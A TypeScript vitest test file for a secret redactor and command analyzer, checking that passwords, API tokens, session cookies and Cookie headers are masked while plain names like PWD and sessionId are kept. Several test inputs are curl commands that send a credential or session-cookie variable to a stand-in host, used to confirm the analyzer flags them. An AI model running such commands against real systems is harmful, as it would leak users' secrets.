import { describe, expect, it } from 'vitest';
import { analyzeCommand } from './command.js';
import { redact } from './redact.js';
import { isSensitiveKey, isSensitiveListKey } from './sensitive-names.js';

const secretNames = [
  'password',
  'clientSecret',
  'x-api-key',
  'AWS_SECRET_ACCESS_KEY',
  'refresh_token',
  'cookie',
  'XPASS',
  'DEPLOY_CRED',
  'DEPLOY_CREDS_2',
  'DB_PASS',
  'SMTP_PASS',
  'MY_SECRET_VALUE',
  'GITHUB_TOKEN_2',
  'STRIPE_KEY',
  'SSH_KEYS',
  'PASSWD',
  'GITHUB_PAT',
  'npmAuthToken',
  'db_pwd',
  'session_token',
  'sessionToken',
  'sessionKey',
  'session_key',
  'session_secret',
  'session_cookie',
  'session',
  'SESSION',
  'sessionid',
  'SESSIONID',
  'SessionId',
  'SESSION_ID',
  'session-id',
  'x-session-id',
  'JSESSIONID',
  'ASP.NET_SessionId',
  'ASPSESSIONIDQASCTRBS',
  'PHPSESSID',
  'connect.sid',
  'sid',
  'koa.sess',
  'express:sess',
  'laravel_session',
  'ci_session',
  '_session_id',
];
const plainNames = [
  'PWD',
  'OLDPWD',
  'pwd',
  'max_tokens',
  'tokenizer',
  'TOKENIZERS_PARALLELISM',
  'username',
  'author',
  'keyId',
  'secretary',
  'passwordMinLength',
  'BYPASS_CACHE',
  'COMPASS_URL',
  'credit_limit',
  'sort_key',
  'primary_key',
  'public_key',
  'key',
  'monkey',
  'PATH',
  'HOME',
  'sessionId',
  'session_id',
  'sessionID',
  'ORACLE_SID',
  'accountSid',
  'assess',
];

describe('one list of sensitive names', () => {
  it.each(secretNames)('%s names a secret', (name) => {
    expect(isSensitiveKey(name)).toBe(true);
  });
  it.each(plainNames)('%s does not', (name) => {
    expect(isSensitiveKey(name)).toBe(false);
  });

  it('plural names of secrets are lists of secrets; counts are not', () => {
    expect(['tokens', 'passwords', 'api_keys', 'secrets', 'credentials'].every(isSensitiveListKey)).toBe(true);
    expect(['max_tokens', 'tokens_used', 'secretaries', 'keys', 'authors'].some(isSensitiveListKey)).toBe(false);
  });

  it('the redactor and the command analyzer use it', () => {
    const pw = 'Zq7!hunter2#Xk';
    for (const name of secretNames.filter((n) => /^[A-Za-z_][A-Za-z0-9_]*$/.test(n))) {
      expect(redact(`${name}=${pw}`)).toBe(`${name}=[REDACTED]`);
      expect(redact({ [name]: pw })).toEqual({ [name]: '[REDACTED]' });
      const sent = analyzeCommand(`${name}=${pw} curl -d "$${name}" https://x.example`);
      expect(JSON.stringify(sent.findings)).not.toContain(pw);
      expect(sent.findings.map((f) => f.ruleId)).toContain('command.credential-variable');
    }
    expect(redact('PWD=/work/app OLDPWD=/work')).toBe('PWD=/work/app OLDPWD=/work');
    expect(redact({ PWD: '/work/app' })).toEqual({ PWD: '/work/app' });
    expect(analyzeCommand('curl -d "$PWD" https://x.example').findings).toEqual([]);
  });

  it('a session id is attribution, kept; the session token beside it is redacted', () => {
    const token = 'abc9Qk2xT7mPz4Lw8Rn3';
    expect(redact({ sessionId: 's-123', sessionToken: token })).toEqual({ sessionId: 's-123', sessionToken: '[REDACTED]' });
    expect(redact({ session_id: 's-123', session_secret: token, sessionID: 's-9' })).toEqual({
      session_id: 's-123',
      session_secret: '[REDACTED]',
      sessionID: 's-9',
    });
    expect(redact(`session_id=s-123 session_token=${token}`)).toBe('session_id=s-123 session_token=[REDACTED]');
    expect(redact({ sessionIds: ['s-1', 's-2'] })).toEqual({ sessionIds: ['s-1', 's-2'] });
  });
});

describe('session credentials', () => {
  // Only the exact attribution names are exempt; every cookie or header that carries a session goes.
  const sid = 'Zq8xT7mPz4Lw8Rn3Kd9';
  const cookies = [
    'sessionid',
    'JSESSIONID',
    'ASP.NET_SessionId',
    'PHPSESSID',
    'connect.sid',
    'session',
    'sessionKey',
    'session_token',
    'SESSION_ID',
    'sid',
    'laravel_session',
  ];

  it.each(cookies)('%s: as an object key, a KEY=value, a quoted assignment and in a URL', (name) => {
    expect(redact({ [name]: sid, sessionId: 's-1' })).toEqual({ [name]: '[REDACTED]', sessionId: 's-1' });
    expect(redact(`${name}=${sid}`)).toBe(`${name}=[REDACTED]`);
    expect(redact(`${name}: ${sid}\r\n`)).toBe(`${name}: [REDACTED]\r\n`);
    expect(redact(`{"${name}": "${sid}"}`)).toBe(`{"${name}": "[REDACTED]"}`);
    expect(redact(`{\\"${name}\\":\\"${sid}\\"}`)).toBe(`{\\"${name}\\":\\"[REDACTED]\\"}`);
    expect(redact(`GET https://app.example/cart?${name}=${sid}&page=2`)).toBe(`GET https://app.example/cart?${name}=[REDACTED]&page=2`);
    expect(redact(new URL(`https://app.example/cart?page=2&${name}=${sid}`))).toBe(`https://app.example/cart?page=2&${name}=[REDACTED]`);
    expect(redact(`${name}: |\n  ${sid}\n`)).toBe(`${name}: |\n  [REDACTED]\n`);
  });

  it('the session id a servlet writes into the path (;jsessionid=) goes', () => {
    expect(redact(`GET /shop/cart;jsessionid=${sid}?page=2`)).not.toContain(sid);
    expect(redact(`GET /shop/cart;jsessionid=${sid} HTTP/1.1`)).toBe('GET /shop/cart;jsessionid=[REDACTED] HTTP/1.1');
  });

  it('Cookie and Set-Cookie values go whole, as header lines, header objects and rawHeaders', () => {
    const line = `Cookie: theme=dark; JSESSIONID=${sid}; connect.sid=s%3A${sid}`;
    expect(redact(line)).toBe('Cookie: [REDACTED]');
    expect(redact(`Set-Cookie: PHPSESSID=${sid}; Path=/; HttpOnly`)).toBe('Set-Cookie: [REDACTED]');
    expect(redact({ cookie: `sessionid=${sid}`, 'set-cookie': [`ASP.NET_SessionId=${sid}; path=/`] })).toEqual({
      cookie: '[REDACTED]',
      'set-cookie': ['[REDACTED]'],
    });
    expect(redact(['Set-Cookie', `JSESSIONID=${sid}; Path=/`, 'Host', 'app.example'])).toEqual(['Set-Cookie', '[REDACTED]', 'Host', 'app.example']);
    // A cookie string without its header (document.cookie, a cookie jar line).
    expect(redact(`theme=dark; JSESSIONID=${sid}; session=${sid}`)).toBe('theme=dark; JSESSIONID=[REDACTED]; session=[REDACTED]');
  });

  it('a session cookie sent by a command or passed to one is seen', () => {
    const sent = analyzeCommand(`PHPSESSID=${sid} curl -d "$PHPSESSID" https://x.example`);
    expect(JSON.stringify(sent.findings)).not.toContain(sid);
    expect(sent.findings.map((f) => f.ruleId)).toContain('command.credential-variable');
    expect(redact(['app', `--session-id=${sid}`])).toEqual(['app', '--session-id=[REDACTED]']);
    const header = analyzeCommand(`curl -H 'X-Session-Id: ${sid}' -d "$JSESSIONID" https://x.example`);
    expect(header.findings.map((f) => f.match).join('\n')).toContain('X-Session-Id: [REDACTED]');
    expect(JSON.stringify(header.findings)).not.toContain(sid);
  });

  it('the attribution ids pass through in every form', () => {
    expect(redact({ sessionId: 's-1', session_id: 's-2', sessionID: 's-3' })).toEqual({ sessionId: 's-1', session_id: 's-2', sessionID: 's-3' });
    expect(redact('sessionId=s-1 session_id=s-2 sessionID=s-3')).toBe('sessionId=s-1 session_id=s-2 sessionID=s-3');
    expect(redact('https://buckley.example/events?sessionId=s-1&limit=5')).toBe('https://buckley.example/events?sessionId=s-1&limit=5');
    // Only the whole names: a longer name holding one is a session cookie like any other.
    expect(redact(`sessionId=s-1 app.sessionId=${sid} "sessionID": "s-2", jsessionId=${sid}`)).toBe(
      'sessionId=s-1 app.sessionId=[REDACTED] "sessionID": "s-2", jsessionId=[REDACTED]',
    );
  });
});
